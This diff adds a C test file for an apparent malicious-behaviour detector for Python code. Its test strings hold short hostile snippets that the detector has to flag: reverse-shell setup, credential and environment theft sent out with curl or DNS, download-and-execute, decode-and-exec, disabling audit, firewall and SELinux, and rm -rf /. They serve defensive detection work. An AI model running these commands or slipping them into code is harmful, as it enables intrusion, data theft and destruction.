@@ -1,0 +1,181 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* The same by other means: through files, lists, input, and hidden in text. */
+#include "folding.h"
+
+#include "../test.h"
+
+/* What programs are made to do by the tools and the texts that they are given. */
+static void by_other_means(void)
+{
+	CHECK(shows("import os\np = os.path.join(a, 'Start Menu', 'Programs', "
+		    "'Startup')\nopen(p, 'w')", MPY_BEH_PERSIST_STARTUP, 3));
+	CHECK(shows("import os\np = os.path.join(h, '.aws', 'credentials')\n"
+		    "open(p).read()", MPY_BEH_SECRET_READ, 3));
+	CHECK(shows("import os, subprocess\nsubprocess.run(['curl', '-d', "
+		    "str(os.environ), u])", MPY_BEH_ENV_SEND, 2));
+	CHECK(shows("import os\nos.system('nslookup ' + os.uname()[1] + x)",
+		    MPY_BEH_DNS_SEND, 2));
+	CHECK(shows("import subprocess\n"
+		    "c = subprocess.getoutput('curl http://x.invalid')\n"
+		    "subprocess.getoutput(str(c))", MPY_BEH_NETWORK_RUN, 3));
+	CHECK(shows("f.write(f'exec(base64.b64decode({x}))')",
+		    MPY_BEH_CODE_TEXT, 1));
+	CHECK(shows("run('powershell -w hidden -c x')", MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("js = 'document.execCommand(\"paste\"); v.replace(/^0x/'",
+		    MPY_BEH_CLIPBOARD_SWAP, 1));
+	CHECK(shows("run('wget http://x.invalid/a; ./a')",
+		    MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("import os\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)"
+		    "\nimport pty\npty.spawn('/bin/sh')",
+		    MPY_BEH_REVERSE_SHELL, 5));
+	CHECK(shows("import os\nos.dup2(s.fileno(), 0)",
+		    MPY_BEH_SOCKET_STDIO, 2));
+	CHECK(shows("import pty\npty.spawn('/bin/bash')", MPY_BEH_PTY_SHELL,
+		    2));
+	CHECK(shows("from x import Fernet\n"
+		    "exec(Fernet(k).decrypt(d).decode())",
+		    MPY_BEH_DECODE_EXEC, 2));
+	CHECK(shows("open(p, 'wb').write(b'\\x7fELF\\2\\1\\1\\0"
+		    "00000000000000000000000000000000000000000000000000000000"
+		    "00000000')", MPY_BEH_CARRIES, 1));
+	CHECK(shows("import urllib.request, os\n"
+		    "urllib.request.urlretrieve(u, p)\nos.chmod(p, 0o755)",
+		    MPY_BEH_DROP_CHMOD, 3));
+	CHECK(shows("import requests, tempfile, subprocess\n"
+		    "with tempfile.NamedTemporaryFile() as f:\n"
+		    "  f.write(requests.get(u).content)\n"
+		    "  subprocess.run(['python', f.name])",
+		    MPY_BEH_DOWNLOAD_START, 4));
+	CHECK(shows("import base64, subprocess\n"
+		    "with open(p, 'wb') as f:\n"
+		    "  f.write(base64.b64decode(blob()))\n"
+		    "subprocess.run([p])", MPY_BEH_DROP_START, 4));
+	CHECK(lacks("import base64, subprocess\n"
+		    "with open(p, 'wb') as f:\n"
+		    "  f.write(base64.b64decode(blob()))\n"
+		    "subprocess.run([p])", MPY_BEH_DOWNLOAD_START));
+	CHECK(shows("exec(''.join(map(chr, f())))", MPY_BEH_MADE_EXEC, 1));
+	CHECK(is_ordinary("import os\nlog = open('/var/log/x', 'a')\n"
+			  "os.dup2(log.fileno(), 1)"));
+	CHECK(is_ordinary("import subprocess\n"
+			  "subprocess.run(['dig', '+short', 'example.org'])"));
+	CHECK(is_ordinary("import os\nos.chmod('run.sh', 0o755)"));
+	CHECK(is_ordinary("import os, subprocess\n"
+			  "subprocess.run('apt-get install -y curl', "
+			  "shell=True, env=os.environ.copy())"));
+	CHECK(is_ordinary("import os\nos.popen('curl -s http://x/ip')"));
+	CHECK(is_ordinary("import os\n"
+			  "p = os.path.join(base, 'discord', 'config.json')"));
+	CHECK(is_ordinary("import os\n"
+			  "open(os.path.join(root, 'etc', 'profile'), 'w')"));
+	CHECK(is_ordinary("import os\nos.dup2(log.fileno(), 1)"));
+	CHECK(is_ordinary("import io, subprocess, base64\nb = io.BytesIO()\n"
+			  "b.write(base64.b64decode(d))\nsubprocess.run("
+			  "['convert', '-', 'x'], input=b.getvalue())"));
+	CHECK(is_ordinary("from cryptography.fernet import Fernet\n"
+			  "import subprocess\np = Fernet(k).decrypt(b).decode()"
+			  "\nsubprocess.run(['mysqldump', '-p' + p, 'db'])"));
+	CHECK(is_ordinary("from flask import request\nimport subprocess\n"
+			  "subprocess.run(['ping', request.args['host']])"));
+	CHECK(is_ordinary("from flask import request\nimport os\n"
+			  "os.system('ls ' + request.form['a'] + ' ' + b)"));
+	CHECK(is_ordinary("from flask import request\nimport os\n"
+			  "JOBS = {'a': 'make a', 'b': 'make b'}\n"
+			  "os.system(JOBS[request.args['job']])"));
+	CHECK(is_ordinary("exec(bytes(source, 'utf-8'))"));
+	CHECK(is_ordinary("import evdev\nd = evdev.InputDevice(p)\n"
+			  "u = evdev.UInput()\nfor e in d.read():\n"
+			  "  u.write(e.type, e.code, e.value)"));
+	CHECK(is_ordinary("exec(chr(10).join(lines))"));
+	CHECK(is_ordinary("page = '/a/.exec(x); pako.decompress(data)'"));
+	CHECK(is_ordinary("x = 'exec() runs a string'"));
+}
+
+/* A shell is told by its input, and by streams that a function is given. */
+static void told_by_input(void)
+{
+	CHECK(shows("import subprocess, requests\ndef run(c):\n"
+		    "  subprocess.run(['bash'], input=c)\n"
+		    "run(requests.get(u).content)", MPY_BEH_NETWORK_RUN, 4));
+	CHECK(shows("import subprocess, requests\n"
+		    "subprocess.run(['bash'], input=requests.get(u).content)",
+		    MPY_BEH_NETWORK_RUN, 2));
+	CHECK(shows("import socket, subprocess\ndef sh(c):\n"
+		    "  subprocess.Popen(['/bin/bash', '-i'], stdin=c, stdout=c)"
+		    "\ns = socket.socket()\ns.connect(a)\nsh(s)",
+		    MPY_BEH_RECV_RUN, 6));
+	CHECK(lacks("import base64, subprocess\n"
+		    "subprocess.run(['gpg', '-d'], input=base64.b64decode(x))",
+		    MPY_BEH_DECODE_RUN));
+}
+
+/* Addresses, paths and commands that are encoded, and texts that are not. */
+static void hides_text(void)
+{
+	CHECK(shows("import base64\nu = base64.b64decode('aHR0cDovL3guaW52"
+		    "YWxpZC9h').decode()\npost(u, d)", MPY_BEH_HIDDEN_TEXT,
+		    2));
+	CHECK(shows("p = 'dilavni.x//:ptth'[::-1]", MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(shows("p = bytes.fromhex('2f6574632f736861646f77').decode()",
+		    MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(shows("u = ''.join(chr(c ^ 1) for c in [105, 117, 117, 113, 59, "
+		    "46, 46, 121])", MPY_BEH_HIDDEN_TEXT, 1));
+	CHECK(shows("s = ''\nfor c in [105, 117, 117, 113, 59, 46, 46, 121]:"
+		    "\n  s += chr(c ^ 1)\nget(s + '')",
+		    MPY_BEH_HIDDEN_TEXT, 4));
+	CHECK(lacks("u = '/'.join(['http://host', str(8000 + 1)])",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("u = list(reversed(['https://x.invalid/a', 'b']))[1]",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("u = 'http://x.invalid/{}'.format(n ^ 1)",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("for n in range(3):\n  get(f'http://x.invalid/{n + 1}')",
+		    MPY_BEH_HIDDEN_TEXT));
+	CHECK(lacks("import base64\nt = base64.b64decode('aGVsbG8=')",
+		    MPY_BEH_HIDDEN_TEXT));
+}
+
+/* Commands word by word: what does harm is seen as in one text. */
+static void as_lists(void)
+{
+	CHECK(shows("import subprocess\n"
+		    "subprocess.run(['systemctl', 'stop', 'auditd'])",
+		    MPY_BEH_DEFENCE_OFF, 2));
+	CHECK(shows("import os\nos.execlp('iptables', 'iptables', '-F')",
+		    MPY_BEH_DEFENCE_OFF, 2));
+	CHECK(shows("import subprocess as s\ns.call(['netsh', 'advfirewall', "
+		    "'set', 'allprofiles', 'state', 'off'], timeout=9)",
+		    MPY_BEH_DEFENCE_OFF, 2));
+	CHECK(shows("import subprocess\nsubprocess.call(['rm', '-rf', '/'])",
+		    MPY_BEH_DESTROY, 2));
+	CHECK(lacks("import subprocess\nsubprocess.call(['rm', '-rf', d])",
+		    MPY_BEH_DESTROY));
+	CHECK(lacks("import subprocess\nsubprocess.call(['crontab', '-l'])",
+		    MPY_BEH_PERSIST_CRON));
+	CHECK(shows("import subprocess\n"
+		    "subprocess.Popen(args=['setenforce', '0'])",
+		    MPY_BEH_DEFENCE_OFF, 2));
+	CHECK(lacks("import subprocess as s\n"
+		    "s.call(['docker', 'exec', c, 'rm', '-rf', '/var'])",
+		    MPY_BEH_DESTROY));
+	CHECK(lacks("import subprocess\n"
+		    "subprocess.run(['rm', '-rf', '/bootstrap'])",
+		    MPY_BEH_DESTROY));
+	CHECK(lacks("import os, stat, urllib2\nd = open(P, 'wb')\n"
+		    "d.write(urllib2.urlopen(u).read())\n"
+		    "os.chmod(P, stat.S_IRUSR | stat.S_IWUSR)",
+		    MPY_BEH_DROP_CHMOD));
+	CHECK(shows("import os, stat, urllib2\nd = open(P, 'wb')\n"
+		    "d.write(urllib2.urlopen(u).read())\n"
+		    "os.chmod(P, os.stat(P).st_mode | stat.S_IEXEC)",
+		    MPY_BEH_DROP_CHMOD, 4));
+}
+
+int main(void)
+{
+	RUN(by_other_means);
+	RUN(told_by_input);
+	RUN(hides_text);
+	RUN(as_lists);
+	return DONE();
+}
